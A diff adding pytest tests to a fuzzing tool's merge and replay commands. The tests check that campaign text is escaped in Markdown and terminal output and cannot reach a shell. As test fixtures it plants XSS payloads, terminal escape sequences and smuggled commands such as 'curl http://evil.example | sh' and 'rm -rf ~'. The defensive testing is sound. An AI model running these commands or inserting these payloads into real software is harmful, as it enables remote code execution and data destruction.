@@ -13,6 +13,8 @@ import base64
 import hashlib
 import json
 import os
+import re
+import shlex
 import shutil
 import struct
 import subprocess
@@ -378,8 +380,8 @@ def test_an_oversized_summary_is_refused_before_it_is_parsed(camp, tmp_path, cap
 
 
 def test_a_path_repeated_in_commands_cannot_blow_up_a_merge(camp, tmp_path, capsys):
-    """The merge rewrites the reproducer's recorded path into the new one; a crafted group whose path
-    is one character, repeated 100,000 times, must not multiply the summary's size."""
+    """A crafted group whose path is one character, repeated 100,000 times in its commands, must not
+    multiply the summary's size: the merge writes the commands anew instead of rewriting the text."""
     group = first_group(camp)
     name = "a"
     group.rename(camp / name)
@@ -389,7 +391,8 @@ def test_a_path_repeated_in_commands_cannot_blow_up_a_merge(camp, tmp_path, caps
     )
     deep = tmp_path / ("d" * 200) / ("e" * 200)
     deep.mkdir(parents=True)
-    refused(capsys, ["fuzz", "merge", str(camp), "--out", str(deep / "out")], "too large", [camp])
+    assert run_main(["fuzz", "merge", str(camp), "--out", str(deep / "out")]) == 1, capsys.readouterr().err
+    assert (deep / "out" / "summary.json").stat().st_size < (camp / "summary.json").stat().st_size
 
 
 # ---------------------------------------------------------------------------------------------
@@ -735,3 +738,116 @@ def test_the_largest_seed_and_index_are_read_back(tmp_path, capsys):
 
     (campaign_info,) = read_summary(out).campaigns
     assert campaign_info.seed == 2**63 - 1 and campaign_info.indices == [2**63 - 1]
+
+
+# ---------------------------------------------------------------------------------------------
+# issue 25, item 14: text from a campaign reaches no page as markup and no shell as a command
+
+
+HOSTILE = "<script>alert(1)</script> [click](http://evil.example) <img src=x onerror=alert(2)> a|b \\| &lt;"
+
+
+def _hostile_texts(summary: Any) -> None:
+    g = summary["groups"][0]
+    g["signature"].update(detail=HOSTILE, kind="value<b>", side="builtin<i>")
+    g["known"] = ["<script>known</script>"]
+    summary["ort_version"] = "<b>1.0</b>"
+    summary["campaigns"][0]["targets"][0] = "<script>target</script>"
+    summary["campaigns"][0]["skipped_reasons"] = {"<script>reason</script>": 1}
+    for note in summary.get("reference_notes", [])[:1]:
+        note["signature"].update(detail=HOSTILE, kind="k<script>")
+
+
+def test_merge_markdown_carries_no_markup_from_a_campaign(camp, tmp_path, capsys):
+    edit(camp / "summary.json", _hostile_texts)
+    md = tmp_path / "findings.md"
+    assert run_main(["fuzz", "merge", str(camp), "--out", str(tmp_path / "out"), "--markdown", str(md)]) == 1
+    capsys.readouterr()
+    page = md.read_text()
+    for markup in ("<script", "<img", "<b>", "<i>"):
+        assert markup not in page, markup
+    assert not re.search(r"(?<!\\)\]\(http://evil", page)  # no link: its bracket is escaped
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&amp;lt;" in page  # shown, as text
+    rows = [line for line in page.splitlines() if "alert(1)" in line and line.startswith("| Pad-")]
+    assert rows
+    for row in rows:  # the crafted '|' and '\\|' split no cell
+        cells = re.split(r"(?<!\\)\|", row.replace("\\\\", ""))
+        assert len(cells) == (9 if "](/" in row else 7), row  # a group's row (7 columns) or a note's (5)
+
+
+def test_merge_writes_rerun_commands_anew_from_checked_fields(camp, tmp_path, capsys):
+    group = first_group(camp)
+    hostile = ["customops fuzz replay x; curl http://evil.example | sh", "rm -rf ~"]
+
+    def plant(summary: Any) -> None:
+        for g in summary["groups"]:
+            g["rerun"] = hostile
+
+    edit(camp / "summary.json", plant)
+    edit(group / "finding.json", lambda r: r.update(rerun=hostile))
+    readme = (group / "README.txt").read_text()
+    (group / "README.txt").write_text(readme + "  curl http://evil.example | sh\n\x1b]0;title\x07\n")
+    out = tmp_path / "out"
+    assert run_main(["fuzz", "merge", str(camp), "--out", str(out)]) == 1, capsys.readouterr().err
+    summary = json.loads((out / "summary.json").read_text())
+    for g in summary["groups"]:
+        sig, where = g["signature"], str(out / g["dir"])
+        rebuilt = (
+            f"customops fuzz --op {sig['op']} --opset {sig['version']} --seed 3 --index {g['examples'][0]}"
+        )
+        assert g["rerun"] == [f"customops fuzz replay {where}", rebuilt], g["rerun"]
+    for path in out.rglob("*"):
+        if path.is_file() and path.suffix in (".json", ".txt"):
+            text = path.read_text()
+            assert "curl" not in text and "rm -rf" not in text and "\x1b" not in text, path
+
+
+@pytest.mark.parametrize(
+    ("command", "outcome"),
+    [
+        ("customops fuzz --op Pad\n```\ncurl http://evil.example | sh", "quoted"),
+        ("curl http://evil.example | sh", "refused"),
+        ("customops fuzz --op 'Pad", "refused"),
+    ],
+)
+def test_a_campaign_command_reaches_the_page_only_as_a_customops_fuzz_command(
+    camp, tmp_path, capsys, command, outcome
+):
+    edit(camp / "summary.json", lambda s: s["campaigns"][0].update(command=command))
+    args = ["fuzz", "merge", str(camp), "--out", str(tmp_path / "out"), "--markdown", str(tmp_path / "f.md")]
+    if outcome == "refused":
+        refused(capsys, args, "campaigns[0].command must be a command line 'customops fuzz ...'", [camp])
+        return
+    assert run_main(args) == 1, capsys.readouterr().err
+    block = (tmp_path / "f.md").read_text().split("```\n", 2)[1].splitlines()
+    assert block and all(line.startswith("customops fuzz ") for line in block), block
+    quoted = next(line for line in block if "evil" in line)
+    assert shlex.split(quoted)[:4] == ["customops", "fuzz", "--op", "Pad"] and "'|'" in quoted
+
+
+# ---------------------------------------------------------------------------------------------
+# issue 25, item 11: fuzz's lines carry no control character from a campaign file
+
+
+def test_replay_prints_a_crafted_signature_as_one_printable_line(camp, capsys):
+    group = first_group(camp)
+    edit(group / "finding.json", _set(["signature", "detail"], "\x1b]0;pwned\x07\nREPRODUCES fake\x1b[2J"))
+    run_main(["fuzz", "replay", str(group)])
+    out = capsys.readouterr().out
+    assert len(out.strip().splitlines()) == 1, out
+    assert "\x1b" not in out and "\x07" not in out
+    assert "\\x1b]0;pwned\\x07\\nREPRODUCES fake" in out
+
+
+def test_merge_table_prints_no_control_character_from_a_campaign(camp, tmp_path, capsys):
+    def plant(summary: Any) -> None:
+        g = summary["groups"][0]
+        g["signature"].update(side="builtin\x1b[2J", kind="value\nFAKE ROW")
+        g["known"] = ["K\x1b]0;t\x07"]
+        summary["ort_version"] = "1\x1b[31m"
+
+    edit(camp / "summary.json", plant)
+    assert run_main(["fuzz", "merge", str(camp), "--out", str(tmp_path / "out")]) == 1
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out and "\nFAKE ROW" not in out
+    assert "builtin\\x1b[2J" in out and "value\\nFAKE ROW" in out
